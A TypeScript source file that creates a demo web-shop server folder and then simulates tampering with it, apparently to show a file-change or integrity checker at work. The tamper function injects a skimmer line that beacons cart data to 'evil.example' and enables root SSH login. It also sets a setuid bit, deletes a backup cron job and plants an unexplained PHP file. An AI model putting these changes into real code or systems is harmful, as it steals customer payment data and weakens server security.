import fs from 'node:fs';
import path from 'node:path';

/** The folder of files of the demo: a small server's configuration, its programs and a log. */
const contents: Readonly<Record<string, string>> = {
  'etc/nginx/nginx.conf': 'worker_processes 2;\nhttp {\n  server {\n    listen 443 ssl;\n    server_name shop.example;\n    root /srv/shop;\n  }\n}\n',
  'etc/nginx/mime.types': 'text/html html;\ntext/css css;\napplication/javascript js;\n',
  'etc/passwd': 'root:x:0:0:root:/root:/bin/bash\nshop:x:1000:1000:shop:/srv/shop:/usr/sbin/nologin\n',
  'etc/ssh/sshd_config': 'PermitRootLogin no\nPasswordAuthentication no\nX11Forwarding no\n',
  'etc/cron.d/backup': '15 2 * * * root /usr/local/bin/backup\n',
  'etc/shop/settings.ini': '[database]\nhost = db.internal\npassword = demo-not-a-real-secret\n[payment]\nendpoint = https://pay.example/v1\n',
  'srv/shop/index.html': '<!doctype html>\n<title>Shop</title>\n<h1>Welcome</h1>\n',
  'srv/shop/checkout.js': "export function pay(cart) {\n  return fetch('https://pay.example/v1', { method: 'POST', body: JSON.stringify(cart) });\n}\n",
  'srv/shop/cart.js': 'export const total = (items) => items.reduce((sum, { price }) => sum + price, 0);\n',
  'usr/local/bin/backup': '#!/bin/sh\ntar -cf /backup/$(date +%F).tar /srv\n',
};
const log = 'var/log/shop.log';

const put = (root: string, name: string, text: string): void => {
  const file = path.join(root, name);
  fs.mkdirSync(path.dirname(file), { recursive: true });
  fs.writeFileSync(file, text, { mode: 0o644 });
};

/** Makes the folder where it is not there yet. Answers whether it is new. */
export function makeDemoFiles(root: string): boolean {
  if (fs.existsSync(root)) return false;
  for (const [name, text] of Object.entries(contents)) put(root, name, text);
  for (let index = 1; index <= 24; index += 1) put(root, `srv/shop/img/product-${String(index).padStart(2, '0')}.svg`, `<svg xmlns="http://www.w3.org/2000/svg"><text>${index}</text></svg>\n`);
  put(root, log, '2026-11-20T08:00:00Z started\n2026-11-20T08:00:04Z 200 GET /\n');
  // Readable by all on the machine, so that what changed in a file can be shown.
  for (const entry of [root, ...fs.globSync('**', { cwd: root }).map((name) => path.join(root, name))]) fs.chmodSync(entry, fs.statSync(entry).isDirectory() ? 0o755 : 0o644);
  return true;
}

/** What an intruder and a careless colleague would do. */
export function tamperWithDemoFiles(root: string): void {
  put(root, 'srv/shop/checkout.js', "export function pay(cart) {\n  navigator.sendBeacon('https://evil.example/c', JSON.stringify(cart));\n  return fetch('https://pay.example/v1', { method: 'POST', body: JSON.stringify(cart) });\n}\n");
  put(root, 'etc/ssh/sshd_config', 'PermitRootLogin yes\nPasswordAuthentication no\nX11Forwarding no\n');
  fs.chmodSync(path.join(root, 'usr/local/bin/backup'), 0o4755);
  fs.rmSync(path.join(root, 'etc/cron.d/backup'));
  put(root, 'srv/shop/.cache.php', '<?php /* nobody knows where this comes from */ ?>\n');
  fs.appendFileSync(path.join(root, log), '2026-11-20T09:12:44Z 200 POST /checkout\n');
}
